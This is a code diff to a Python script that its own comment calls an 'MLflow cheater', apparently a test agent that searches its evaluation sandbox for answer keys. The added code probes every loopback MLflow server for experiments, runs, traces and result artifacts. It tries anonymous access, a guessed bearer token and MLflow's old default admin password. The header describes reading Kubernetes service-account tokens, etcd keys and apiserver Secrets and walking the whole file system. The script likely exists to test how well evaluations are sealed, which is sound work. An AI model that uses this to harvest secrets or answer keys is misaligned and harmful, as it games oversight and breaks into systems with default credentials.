@@ -11,6 +11,9 @@ In order, within SECONDS (default 60) of searching:
      every root that is not its own walked whole; service-account tokens where Kubernetes mounts them;
   5. every TCP port listening on loopback (/proc/net/tcp, tcp6), asked over HTTP and HTTPS for what an
      etcd (/v3/kv/range of every key), an apiserver (ConfigMaps, Secrets) or any web server would give;
+     one that answers like MLflow (/health) is asked first, before any file walk, for its experiments,
+     runs, traces and each run's result.json and report.html: anonymously, with a guessed bearer token and
+     with the admin password MLflow once shipped with;
   6. the folders above its workspace, then the whole file system from /.
 It reads every regular file it can (up to 1 MiB) and copies into its answer every file that looks like
 an answer key (YAML/JSON text with mustMention, forbidden, notes, keys, shouldAbstain...), every
@@ -54,6 +57,7 @@ class Search:
         self.size = 0
         self.files_read = 0
         self.articles: set[str] = set()
+        self.mlflow: list[str] = []  # what the MLflow probe asked, as `port who path status`
 
     def out_of_time(self) -> bool:
         return time.monotonic() > self.deadline or self.size > MAX_FOUND
@@ -243,6 +247,83 @@ def _etcd_values(reply: str) -> str:
         return ""
 
 
+# How the MLflow cheater knocks: no credential, a guessed bearer token, MLflow's old default admin login.
+MLFLOW_GUESSES = {
+    "anonymous": {},
+    "bearer": {"Authorization": "Bearer guessed"},
+    "admin:password1234": {"Authorization": "Basic " + base64.b64encode(b"admin:password1234").decode()},
+}
+
+
+def _mlflow_call(port: int, method: str, path: str, body: object, headers: dict[str, str]) -> tuple[int, str]:
+    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=2)
+    try:
+        data = json.dumps(body).encode() if body is not None else None
+        connection.request(method, path, body=data, headers={"Content-Type": "application/json", **headers})
+        reply = connection.getresponse()
+        return reply.status, reply.read(MAX_BYTES).decode(errors="replace")
+    finally:
+        connection.close()
+
+
+def probe_mlflow(search: Search) -> list[str]:
+    """Every loopback listener that answers MLflow's /health "OK" is asked for its experiments, their runs and
+    traces, and each run's artifacts, with each of MLFLOW_GUESSES. Returns `port who path status` for every
+    call, and keeps every reply that holds an answer key."""
+    seen: list[str] = []
+    for port in listening_ports():
+        try:
+            if _mlflow_call(port, "GET", "/health", None, {})[1].strip() != "OK":
+                continue
+        except (OSError, http.client.HTTPException, ValueError):
+            continue
+        for who in MLFLOW_GUESSES:
+            knock = MlflowKnock(search, seen, port, who)
+            found = knock.ask("GET", "/api/2.0/mlflow/experiments/search?max_results=1000")
+            experiments = [str(e["experiment_id"]) for e in _json(found).get("experiments", [])] or [
+                "0",
+                "1",
+                "2",
+            ]
+            searched = knock.ask("POST", "/api/2.0/mlflow/runs/search", {"experiment_ids": experiments})
+            knock.ask("GET", "/api/2.0/mlflow/traces?experiment_ids=" + "&experiment_ids=".join(experiments))
+            locations = [
+                {"type": "MLFLOW_EXPERIMENT", "mlflow_experiment": {"experiment_id": e}} for e in experiments
+            ]
+            knock.ask("POST", "/api/3.0/mlflow/traces/search", {"locations": locations})
+            for run in _json(searched).get("runs", []):
+                info = run.get("info")
+                run_id = info.get("run_id", "") if isinstance(info, dict) else ""
+                for artifact in ("result.json", "report.html"):
+                    knock.ask("GET", f"/get-artifact?path={artifact}&run_uuid={run_id}")
+    return seen
+
+
+class MlflowKnock:
+    """One guess at one MLflow server: each call is noted, and a reply holding a key is kept."""
+
+    def __init__(self, search: Search, seen: list[str], port: int, who: str) -> None:
+        self.search, self.seen, self.port, self.who = search, seen, port, who
+
+    def ask(self, method: str, path: str, body: object = None) -> str:
+        try:
+            status, text = _mlflow_call(self.port, method, path, body, MLFLOW_GUESSES[self.who])
+        except (OSError, http.client.HTTPException, ValueError):
+            return ""
+        self.seen.append(f"{self.port} {self.who} {path.split('?', maxsplit=1)[0]} {status}")
+        if MARKERS.search(text) or "mustMention" in text or "answer_key" in text:
+            self.search.keep(f"mlflow {self.port} {self.who} {path}", text[:20_000])
+        return text if status == 200 else ""
+
+
+def _json(text: str) -> dict[str, list[dict[str, object]]]:
+    try:
+        found = json.loads(text)
+    except ValueError:
+        return {}
+    return found if isinstance(found, dict) else {}
+
+
 def probe_network(search: Search) -> list[str]:
     """Ask every loopback listener for keys: all of etcd's keys, the apiserver's ConfigMaps and Secrets,
     whatever a web server serves at /. Keeps any reply that looks like an answer key."""
@@ -293,6 +374,7 @@ def main() -> int:
 
 
 def search_and_answer(search: Search, env: str) -> int:
+    search.mlflow = probe_mlflow(search)
     for path in named_paths():
         if os.path.isdir(path):
             search.walk(path)
@@ -321,7 +403,7 @@ def answer(
     shown = " | ".join(f"{pid}: {command[:80]}" for pid, command in seen.items())
     where = (
         f"mounts: {' '.join(mounts)}\nprocesses: {len(seen)}: {shown}\nother roots: {' '.join(roots)}\n"
-        f"asked: {' '.join(asked)}\nfiles read: {search.files_read}; "
+        f"asked: {' '.join(asked)}\nmlflow: {'; '.join(search.mlflow)}\nfiles read: {search.files_read}; "
         f"{'out of time' if search.out_of_time() else 'searched everything'}"
     )
     cites = " ".join(f"[{a}]" for a in sorted(search.articles))
